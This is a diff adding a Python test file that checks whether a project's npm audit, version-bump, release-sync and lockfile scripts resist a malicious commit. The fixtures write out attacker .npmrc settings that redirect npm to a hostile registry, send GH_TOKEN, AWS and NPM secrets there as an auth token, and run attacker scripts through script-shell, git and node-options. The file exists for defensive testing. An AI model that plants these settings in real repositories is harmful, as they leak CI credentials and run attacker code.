@@ -1,0 +1,164 @@
+"""What npm reads of a commit that nobody has reviewed: no secret of the person leaves, and the commit does not choose who is asked."""
+
+from __future__ import annotations
+
+import json
+from dataclasses import dataclass
+from typing import TYPE_CHECKING
+
+import pytest
+
+from tests.programs.npm_registry import NpmRegistry
+from tests.programs.published import Published, published
+from tests.tools import program
+
+if TYPE_CHECKING:
+    from collections.abc import Callable, Iterator
+
+    from tests.programs.repositories import Clone, Ran
+
+AUDIT, BUMP, LOCKFILE = "publish/audit-dependencies.sh", "publish/bump-version.sh", "development/update-lockfile-linux.sh"
+STAGING, MAIN = "publish/sync-develop-to-staging.sh", "publish/sync-staging-to-main.sh"
+SECRETS = {
+    "GH_TOKEN": "ghp_a-person",
+    "AWS_SECRET_ACCESS_KEY": "aws-of-a-person",
+    "GHCR_REGISTRY_TOKEN": "ghp_a-person",
+    "NPM_TOKEN": "npm-of-a-person",
+    "ACTIONS_RUNTIME_TOKEN": "actions-of-a-runner",
+}
+ADVISORY = {
+    "id": 1,
+    "url": "https://github.com/advisories/GHSA-2345-6789-cfgh",
+    "title": "It is bad",
+    "severity": "high",
+    "vulnerable_versions": "<2.0.0",
+    "cwe": [],
+    "cvss": {"score": 5},
+}
+
+
+FOUND = "GHSA-2345-6789-cfgh (high) in left-pad"
+STOLEN = "".join(f"${{{name}}}" for name in SECRETS)
+
+
+def theft(theirs: NpmRegistry) -> dict[str, str]:
+    """The plainest: npm asks the commit's registry, with a token that the commit names."""
+    text = f"registry={theirs.url}/\n{theirs.nerf_dart}:_authToken={STOLEN}\n"
+    return {".npmrc": text, "apps/api/.npmrc": text}
+
+
+def settings(text: str) -> Callable[[NpmRegistry], dict[str, str]]:
+    """A line for `.npmrc`, and a file that other lines can name."""
+
+    def files(theirs: NpmRegistry) -> dict[str, str]:
+        line = text.format(url=theirs.url, dart=theirs.nerf_dart, stolen=STOLEN)
+        return {".npmrc": f"{line}\n", "theirs.npmrc": theft(theirs)[".npmrc"], "theirs.sh": f"#!/bin/sh\ncurl {theirs.url}\n"}
+
+    return files
+
+
+@dataclass
+class Attack:
+    """A clone with a registry of the attacker, and a registry of the person's, which knows an advisory."""
+
+    line: Published
+    theirs: NpmRegistry
+    mine: NpmRegistry
+
+    def commit(self, files: dict[str, str]) -> None:
+        """The attacker's commit, on develop and staged."""
+        clone = self.line.clone
+        root, lock = (json.loads(clone.read(name)) for name in ("package.json", "package-lock.json"))
+        root |= {
+            "dependencies": {"left-pad": "1.3.0"},
+            "config": {"registry": self.theirs.url},
+            "publishConfig": {"registry": self.theirs.url},
+        }
+        lock["packages"][""]["dependencies"] = {"left-pad": "1.3.0"}
+        lock["packages"]["node_modules/left-pad"] = {"version": "1.3.0", "resolved": f"{self.theirs.url}/tarballs/left-pad/1.3.0"}
+        clone.commit(files={"package.json": json.dumps(root), "package-lock.json": json.dumps(lock), **files})
+        commit = self.line.push("develop")
+        self.line.stage("1.2.3-staging.0", commit)
+        self.line.ran(commit)
+
+    def run(self, name: str, *arguments: str, **environment: str) -> Ran:
+        return self.line.clone.run(name, *arguments, **{**self.line.environment, **SECRETS, **environment})
+
+    def heard(self) -> list[str]:
+        """The secrets that the person's registry was told."""
+        text = "\n".join(request.text for request in self.mine.requests)
+        return [secret for secret in SECRETS.values() if secret in text]
+
+
+@pytest.fixture
+def attack(clone: Clone) -> Iterator[Attack]:
+    program("npm")
+    program("node")
+    with NpmRegistry() as theirs, NpmRegistry() as mine:
+        theirs.publish("left-pad", "1.3.0")
+        mine.publish("left-pad", "1.3.0")
+        mine.advisories = {"left-pad": [ADVISORY]}
+        clone.put("../home/.npmrc", f"registry={mine.url}/\n{mine.nerf_dart}:_authToken=${{NPM_TOKEN}}\n")
+        clone.environment.pop("npm_config_offline")
+        for line in published(clone):
+            (clone.bin / "npm").unlink()
+            clone.engine()
+            yield Attack(line, theirs, mine)
+
+
+AUDITS = {
+    "the audit of a commit": (AUDIT, ["HEAD"]),
+    "the audit of a folder": (AUDIT, []),
+    "bump": (BUMP, ["patch", "--yes"]),
+    "to staging": (STAGING, ["--dry-run"]),
+    "to main": (MAIN, ["--dry-run"]),
+}
+
+
+@pytest.mark.parametrize("name", AUDITS)
+def test_the_commit_gets_no_secret_and_no_say_in_who_judges_it(attack: Attack, name: str) -> None:
+    script, arguments = AUDITS[name]
+    attack.commit(theft(attack.theirs))
+    if script == MAIN:
+        attack.line.push("staging")
+    ran = attack.run(script, *arguments)
+    assert [request.path for request in attack.theirs.requests] == []
+    assert (ran.code, FOUND in ran.said) == (1, True), ran.said
+    assert attack.heard() == [SECRETS["NPM_TOKEN"]], "what the person's own settings send, and nothing else"
+    assert not [secret for secret in SECRETS.values() if secret in ran.said]
+
+
+SETTINGS = {
+    "other settings of the person": "userconfig=./theirs.npmrc",
+    "a name for npm": "user-agent={stolen}",
+    "all others": "@metaboost:registry={url}/\nproxy={url}/\nhttps-proxy={url}/\nglobalconfig=./theirs.npmrc\nprefix=./theirs\n"
+    "cafile=./theirs.npmrc\nscript-shell=./theirs.sh\ngit=./theirs.sh\nnode-options=--require ./theirs.sh\noffline=true\naudit=false\n"
+    "omit[]=prod\nworkspace=apps/api",
+}
+
+
+@pytest.mark.parametrize("name", SETTINGS)
+def test_no_setting_of_the_commit_reaches_the_audit(attack: Attack, name: str) -> None:
+    attack.commit(settings(SETTINGS[name])(attack.theirs))
+    ran = attack.run(AUDIT, "HEAD")
+    assert [request.path for request in attack.theirs.requests] == []
+    assert (ran.code, FOUND in ran.said) == (1, True), ran.said
+    assert attack.heard() == [SECRETS["NPM_TOKEN"]]
+
+
+def test_the_container_asks_no_registry_of_the_commit(attack: Attack) -> None:
+    attack.commit(theft(attack.theirs))
+    settings_of_the_image = attack.line.clone.put("../image", f"registry={attack.mine.url}/\n")
+    ran = attack.run(LOCKFILE, "--yes", "--fresh", npm_config_userconfig=str(settings_of_the_image))
+    assert [request.path for request in attack.theirs.requests] == []
+    assert ran.code == 0, ran.said
+    assert attack.mine.url in attack.line.clone.read("package-lock.json")
+    assert attack.heard() == []
+    assert "settings of .npmrc that do not reach the container: registry //127.0.0.1:" in ran.said
+
+
+def test_the_container_gets_the_settings_that_decide_the_tree(attack: Attack) -> None:
+    attack.line.clone.commit(files={".npmrc": "legacy-peer-deps=true\n; why\n\ncafile = ${HOME}/x\nbefore=${GH_TOKEN}\n"})
+    ran = attack.run(LOCKFILE, "--yes", ENGINE_DOES="cat .npmrc >&2; npm install --package-lock-only >&2", npm_config_offline="true")
+    assert ran.code == 0, ran.said
+    assert "do not reach the container: cafile before\nlegacy-peer-deps=true\n" in ran.said
